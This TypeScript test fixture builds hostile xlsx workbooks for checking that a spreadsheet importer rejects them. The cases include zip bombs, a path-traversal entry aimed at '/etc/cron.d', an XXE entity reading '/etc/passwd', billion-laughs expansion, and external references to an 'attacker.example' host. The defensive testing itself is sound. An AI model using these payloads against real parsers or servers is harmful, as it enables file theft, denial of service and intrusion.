import { randomBytes } from 'node:crypto';
import { buildXlsx, withPart, workbookParts, writeWorkbook } from './build-workbook.ts';
import { buildZip } from '../../zip/test-support/build-zip.ts';
import { type HostileFiles, MEBIBYTE, TABLE } from './hostile-file.ts';
import { xlsWithStream } from './hostile-old-workbooks.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const NOISE = randomBytes(10_000);

const textRow = (row: number, column = 'A') =>
  `<row r="${row}"><c r="${column}${row}" t="inlineStr"><is><t>x</t></is></c></row>`;
const withDoctype = (definitions: string, body: string) =>
  `<?xml version="1.0"?><!DOCTYPE x [${definitions}]><x>${body}</x>`;
/** Ten entities, each of which expands to ten times the one before. */
const LAUGHS = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

export const HOSTILE_WORKBOOKS: HostileFiles = {
  'a text under the name of a workbook': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => Buffer.from('Kundennummer'),
  },
  'nothing but a beginning': { kind: 'xlsx', fault: 'unreadable', bytes: () => Buffer.from('PK\x03\x04') },
  'a bomb of 60 MiB': {
    kind: 'xlsx',
    fault: 'too-large',
    bytes: () => withPart({ name: SHEET, content: Buffer.alloc(60 * MEBIBYTE) }),
  },
  'a bomb of 40 MiB, packed a thousand times': {
    kind: 'xlsx',
    fault: 'too-large',
    bytes: () => withPart({ name: SHEET, content: Buffer.alloc(40 * MEBIBYTE) }),
  },
  'a bomb that says it is small': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({ name: 'xl/media/picture.png', content: Buffer.alloc(200 * MEBIBYTE), unpacked: 1000 }),
  },
  'a bomb of parts that overlap': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      buildZip([
        { name: 'a', content: NOISE },
        ...Array.from({ length: 40 }, (_, n) => ({
          name: `b${n}`,
          content: 'x'.repeat(10_000),
          sharesDataOf: 0,
        })),
      ]),
  },
  'a thousand parts': {
    kind: 'xlsx',
    fault: 'too-large',
    bytes: () => buildZip(Array.from({ length: 1000 }, (_, n) => ({ name: `${n}`, content: 'x' }))),
  },
  'a part that climbs out of its folder': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: '../../../../etc/cron.d/x', content: 'x' }),
  },
  'a part under an absolute path': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: 'C:\\Windows\\x', content: 'x' }),
  },
  'two parts of one name': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      buildZip([...workbookParts('<row/>'), { name: SHEET.toUpperCase(), content: '<worksheet/>' }]),
  },
  'a part with two names': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: SHEET, localName: 'xl/worksheets/sheet2.xml', content: '<worksheet/>' }),
  },
  'a document type that loads a file': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({ name: SHEET, content: withDoctype('<!ENTITY f SYSTEM "file:///etc/passwd">', '&f;') }),
  },
  'a billion laughs': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({
        name: 'xl/sharedStrings.xml',
        content: withDoctype(`<!ENTITY l0 "lol">${LAUGHS}`, '&l10;'),
      }),
  },
  'a document type in UTF-16': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({
        name: 'xl/workbook.xml',
        content: Buffer.from(
          `\ufeff${withDoctype('<!ENTITY % p SYSTEM "http://attacker.example/x">', '')}`,
          'utf16le',
        ),
      }),
  },
  'a document type before a sound table': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({
        name: SHEET,
        content: `<!DOCTYPE worksheet><worksheet><sheetData>${textRow(1)}</sheetData></worksheet>`,
      }),
  },
  'an entity that nobody declared': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: SHEET, content: '<worksheet><sheetData>&secret;</sheetData></worksheet>' }),
  },
  macros: {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: 'xl/vbaProject.bin', content: 'x' }),
  },
  'macros by the declared type': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({
        name: '[Content_Types].xml',
        content:
          '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
      }),
  },
  'a part with a password': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: SHEET, content: 'x', flags: 1 }),
  },
  'a workbook with a password': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => xlsWithStream('/EncryptedPackage'),
  },
  'the first half of a workbook': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => {
      const whole = writeWorkbook(TABLE, 'xlsx');
      return whole.subarray(0, whole.length / 2);
    },
  },
  'a PDF that is a workbook too': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), writeWorkbook(TABLE, 'xlsx')]),
  },
  'a workbook with something behind it': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => Buffer.concat([writeWorkbook(TABLE, 'xlsx'), Buffer.from('<script>alert(1)</script>')]),
  },
  'a part whose checksum is wrong': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () => withPart({ name: SHEET, content: '<worksheet/>', crc: 1 }),
  },
  'a workbook of a million rows': {
    kind: 'xlsx',
    fault: 'too-large',
    cell: 'A20002',
    // Different numbers keep the compression ratio below the limit.
    bytes: () =>
      buildXlsx(
        Array.from({ length: 1_000_000 }, (_, n) => `<row><c><v>${(n * 7919) % 999_983}</v></c></row>`).join(
          '',
        ),
      ),
  },
  'a cell at the right edge': {
    kind: 'xlsx',
    fault: 'too-large',
    cell: 'XFD1',
    bytes: () => buildXlsx(textRow(1, 'XFD')),
  },
  'a column too many': {
    kind: 'xlsx',
    fault: 'too-large',
    cell: 'U3',
    bytes: () => buildXlsx(textRow(3, 'V')),
  },
  'a text that every cell names': {
    kind: 'xlsx',
    fault: 'too-large',
    cell: 'L1311',
    bytes: () =>
      buildZip(
        workbookParts(
          Array.from(
            { length: 19_000 },
            (_, n) => `<row r="${n + 1}">${`<c t="s" s="${n}"><v>0</v></c>`.repeat(16)}</row>`,
          ).join(''),
        ).with(5, { name: 'xl/sharedStrings.xml', content: `<sst><si><t>${'x'.repeat(500)}</t></si></sst>` }),
      ),
  },
  'a row that is there twice': {
    kind: 'xlsx',
    fault: 'unreadable',
    cell: 'A2',
    bytes: () => buildXlsx(textRow(2) + textRow(2)),
  },
  'a cell that is there twice': {
    kind: 'xlsx',
    fault: 'unreadable',
    cell: 'A1',
    bytes: () => buildXlsx('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
  },
  'a cell whose text is missing': {
    kind: 'xlsx',
    fault: 'unreadable',
    cell: 'A1',
    bytes: () => buildXlsx('<row><c t="s"><v>7</v></c></row>'),
  },
  'a table that lies somewhere else': {
    kind: 'xlsx',
    fault: 'unreadable',
    bytes: () =>
      withPart({
        name: 'xl/_rels/workbook.xml.rels',
        content:
          '<Relationships><Relationship Id="r1" Type="x/worksheet" Target="http://attacker.example/" TargetMode="External"/></Relationships>',
      }),
  },
};
